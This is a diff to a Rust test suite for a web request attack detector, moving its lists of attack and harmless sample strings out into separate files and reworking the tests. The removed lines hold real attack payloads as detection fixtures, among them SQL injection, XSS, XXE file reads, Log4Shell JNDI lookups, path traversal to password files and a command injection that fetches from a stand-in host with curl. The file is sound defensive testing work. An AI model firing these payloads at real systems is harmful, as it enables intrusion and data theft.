@@ -1,98 +1,28 @@
 //! Attacks by class: what must be found and what must not, in a parameter, a header, and a JSON body.
 
 use weir_inspect::detector::{Category, DetectorSet};
+use weir_inspect::request::Request;
 use weir_inspect::scan::{Catalog, ScanState, Scanner};
+use weir_inspect::score::score;
 
-/// A detector, and texts that it must report.
-const ATTACKS: &[(&str, &[&str])] = &[
-    (
-        "template-injection",
-        &[
-            "{{8*6}}",
-            "${9*9}",
-            "<%= 3*4 %>",
-            "{{self.__init__.__globals__}}",
-            "{% include '/etc/hostname' %}",
-            "*{T(java.lang.Runtime).getRuntime()}",
-            "#set($a='')$a.class.forName('x')",
-        ],
-    ),
-    (
-        "xxe",
-        &[
-            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>",
-            "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/hosts\"/></x>",
-        ],
-    ),
-    (
-        "deserialisation",
-        &[
-            "rO0ABXNyABNqYXZhLnV0aWwuTGlzdA",
-            "O:5:\"Order\":1:{s:2:\"id\";i:3;}",
-            "!!python/object/apply:os.system ['id']",
-            "org.apache.commons.collections.functors.InvokerTransformer",
-            "class.module.classLoader.urls[0]=x",
-        ],
-    ),
-    (
-        "nosql-injection",
-        &["{\"pass\":{\"$ne\":\"\"}}", "{\"$where\":\"sleep(900)\"}", "a'; return true; var b='"],
-    ),
-    ("ldap-injection", &["*)(uid=*))(|(uid=*", "x)(|(objectClass=*", "(&(cn=a)(userPassword=*))"]),
-    ("graphql-abuse", &["query { __schema { types { name } } }"]),
-    ("protocol-abuse", &["a\r\nSet-Cookie: b=c", "x\nGET /admin HTTP/1.1\r\nHost: b"]),
-    ("path-traversal", &["..%2f..%2fetc%2fpasswd", "/proc/self/environ", "....//....//etc/shadow"]),
-    (
-        "command-injection",
-        &[
-            "a;cat /etc/hostname",
-            "$(curl http://a.example/b)",
-            "require('child_process').exec('id')",
-            "if not exist c:\\a echo b",
-            "constructor.prototype.a=1",
-            "<?php passthru('id');",
-        ],
-    ),
-    (
-        "xss",
-        &[
-            "<img src=a onerror=alert(2)>",
-            "\" autofocus onfocus=\"confirm(3)",
-            "<style>@import'//a.b'",
-        ],
-    ),
-    ("log4shell", &["${jndi:ldap://a.example/b}", "${${lower:j}ndi:rmi://a/b}"]),
-    (
-        "sql-injection",
-        &[
-            "5' or '8'='8",
-            "2 union all select null,null,version()--",
-            "1;waitfor delay '0:0:9'--",
-            "1) and (select 3 from (select(sleep(4)))x",
-            "id'||pg_sleep(4)--",
-        ],
-    ),
-];
-
+/// What must be found: a detector in brackets, and texts that it or another detector of attacks must report.
+const ATTACKS: &str = include_str!("attacks.txt");
 /// Texts in which no attack may be found.
-const HARMLESS: &[&str] = &[
-    "Sean O'Connor & Sons",
-    "select the best table from our union station store",
-    "36\" x 48\" frame or 12' lamp",
-    "Dear {{first_name}}, your order {{order_id}} is on its way",
-    "Is 5 > 3? I think so; thanks -- Ann",
-    "SELECT is a keyword, DROP by anytime",
-    "https://shop.example/search?q=a&sort=-price&page=2",
-    "price ge 10 and startswith(name,'Milk')",
-    "# Title\n\n* item `code` **bold** [link](https://a.example/b)\n",
-    "f(x) = 3*x + (a-b)/2",
-    "query GetUser($id: ID!) { user(id: $id) { id name } }",
-    "<p>Hello <b>Ann</b>, see you at <i>noon</i></p>",
-    "status:open AND (label:bug OR label:\"help wanted\")",
-    "rock 'n' roll; blues & jazz | soul",
-    "C:\\Users\\ann\\Documents\\cat.jpg",
-    "let's sleep on it (8 hours)",
-];
+const HARMLESS: &str = include_str!("harmless.txt");
+
+/// The texts of a file, each with the name in brackets above it.
+fn texts(file: &'static str) -> Vec<(&'static str, &'static str)> {
+    let mut name = "";
+    let mut all = Vec::new();
+    for line in file.lines().filter(|l| !l.starts_with("# ")) {
+        let header = line.strip_prefix('[').and_then(|l| l.strip_suffix(']'));
+        match header.filter(|h| h.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')) {
+            Some(header) => name = header,
+            None => all.push((name, line)),
+        }
+    }
+    all
+}
 
 struct All {
     catalog: Catalog,
@@ -138,37 +68,38 @@ impl All {
 #[test]
 fn attacks_of_each_class_are_found() {
     let all = all();
-    for (detector, texts) in ATTACKS {
-        for text in *texts {
-            let found = all.parameter(text);
-            assert!(found.contains(detector), "{detector}: {text}: {found:?}");
-            assert!(found.contains(&"attack-model"), "{text}: {found:?}");
-        }
-    }
+    let missed: Vec<_> =
+        texts(ATTACKS).into_iter().filter(|(_, text)| all.parameter(text).is_empty()).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
 }
 
 #[test]
 fn attacks_are_found_in_json() {
     let all = all();
-    // What needs the structure of a document or line ends is another thing inside of a string.
-    let inside = |d: &str| !["nosql-injection", "protocol-abuse", "graphql-abuse"].contains(&d);
-    for (detector, texts) in ATTACKS.iter().filter(|(detector, _)| inside(detector)) {
-        for text in *texts {
-            let found = all.body(text, 100_000);
-            assert!(found.contains(detector), "{detector}: {text}: {found:?}");
-        }
-    }
+    // What needs the structure of a document or line ends is another thing inside of a string, and so is what only the
+    // beginning and the end of a parameter tell.
+    let outside = ["nosql-injection", "protocol-abuse", "graphql-abuse", "quotes-of-a-parameter"];
+    let inside = texts(ATTACKS).into_iter().filter(|(d, _)| !outside.contains(d));
+    let missed: Vec<_> = inside.filter(|(_, t)| all.body(t, 100_000).is_empty()).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
 }
 
 #[test]
 fn harmless_texts_pass_in_packets_of_any_size() {
     let all = all();
-    for text in HARMLESS {
-        assert_eq!(all.parameter(text), [""; 0], "{text}");
-        for piece in [100_000, 1448, 300] {
-            assert_eq!(all.body(text, piece), [""; 0], "{text} in pieces of {piece}");
+    let mut wrong = Vec::new();
+    for (_, text) in texts(HARMLESS) {
+        let mut found = all.parameter(text);
+        [100_000, 1448, 300].iter().for_each(|piece| found.extend(all.body(text, *piece)));
+        if !found.is_empty() {
+            let line =
+                serde_json::json!({ "method": "POST", "url": "/", "body": format!("a={text}") });
+            let request = Request::parse(line.to_string().as_bytes()).unwrap();
+            let reasons = score(&request).findings.into_iter().map(|f| f.reason);
+            wrong.push((text, found.len(), reasons.collect::<Vec<_>>()));
         }
     }
+    assert!(wrong.is_empty(), "{wrong:#?}");
 }
 
 #[test]
